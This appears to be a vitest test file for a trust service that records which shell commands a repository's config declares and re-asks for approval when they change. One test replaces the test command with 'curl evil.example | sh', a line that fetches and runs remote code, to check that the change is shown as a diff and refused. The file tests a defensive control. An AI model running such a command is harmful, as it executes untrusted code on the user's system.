import { mkdtempSync, rmSync, statSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, describe, expect, it } from 'vitest'
import { ExpectedError } from '../errors'
import { loadWorkspace } from '../workspace'
import { TestRepo } from '../../testing/test-repo'
import { TrustService } from '.'

const cleanups: (() => void)[] = []
afterEach(() => {
  for (const c of cleanups.splice(0).reverse()) c()
})

function setup(yml: string): { repo: TestRepo; dataDir: string } {
  const repo = TestRepo.create({ files: { 'slipway.yml': yml }, prefix: 'slipway-trust-' })
  const dataDir = mkdtempSync(join(tmpdir(), 'slipway-trust-data-'))
  cleanups.push(() => repo.remove())
  cleanups.push(() => rmSync(dataDir, { recursive: true, force: true }))
  return { repo, dataDir }
}

const YML = [
  'test: { command: npm test, setup: npm ci, env: { NODE_ENV: test } }',
  'build: { command: npm run build, artifact: dist }',
  'environments:',
  '  - name: staging',
  '    hosts: [{ local: .slipway/hosts/s1, port: 4301 }]',
  '    hooks: { afterActivate: ./restart.sh, beforeBatch: ./lb.sh down, afterBatch: ./lb.sh up }',
  ''
].join('\n')

describe('TrustService', () => {
  it('lists every command, trusts exactly those, and remembers it per repository', async () => {
    const { repo, dataDir } = setup(YML)
    const trust = new TrustService(dataDir)
    const ws = await loadWorkspace(repo.path)
    const first = await trust.status(ws)
    expect(first.state).toBe('untrusted')
    expect(first.commands.map((c) => `${c.key}=${c.command}`)).toEqual([
      'test.setup=npm ci',
      'test.command=npm test',
      'test.env.NODE_ENV=test',
      'build.command=npm run build',
      'environments[staging].hooks.afterActivate=./restart.sh',
      'environments[staging].hooks.beforeBatch=./lb.sh down',
      'environments[staging].hooks.afterBatch=./lb.sh up'
    ])
    await expect(trust.require(ws, 'testing')).rejects.toMatchObject({ code: 'untrusted' })
    const granted = await trust.grant(ws, first.fingerprint)
    expect(granted.state).toBe('trusted')
    // Another service over the same data folder (a restart) knows it.
    expect((await new TrustService(dataDir).status(ws)).state).toBe('trusted')
    await new TrustService(dataDir).require(ws, 'testing')
    expect(statSync(join(dataDir, 'trust.json')).mode & 0o777).toBe(0o600)
  })

  it('shows changed commands again, as a diff, and refuses a fingerprint not shown', async () => {
    const { repo, dataDir } = setup(YML)
    const trust = new TrustService(dataDir)
    const before = await trust.status(await loadWorkspace(repo.path))
    await trust.grant(await loadWorkspace(repo.path), before.fingerprint)
    writeFileSync(
      join(repo.path, 'slipway.yml'),
      YML.replace('command: npm test', 'command: curl evil.example | sh')
    )
    const ws = await loadWorkspace(repo.path)
    const now = await trust.status(ws)
    expect(now.state).toBe('changed')
    expect(now.diff.filter((l) => l.kind !== 'same')).toEqual([
      { kind: 'removed', key: 'test.command', command: 'npm test' },
      { kind: 'added', key: 'test.command', command: 'curl evil.example | sh' }
    ])
    await expect(trust.require(ws, 'testing')).rejects.toBeInstanceOf(ExpectedError)
    // The old fingerprint (what the user saw before the change) trusts nothing new.
    await expect(trust.grant(ws, before.fingerprint)).rejects.toMatchObject({ code: 'conflict' })
    expect((await trust.status(ws)).state).toBe('changed')
  })

  it('needs no answer for the demo or a workspace without commands', async () => {
    const { repo, dataDir } = setup('project: quiet\n')
    const trust = new TrustService(dataDir)
    expect((await trust.status(await loadWorkspace(repo.path))).state).toBe('not-needed')
    const demoLike = await loadWorkspace(setup(YML).repo.path, { isDemo: true })
    expect((await trust.status(demoLike)).state).toBe('not-needed')
  })
})
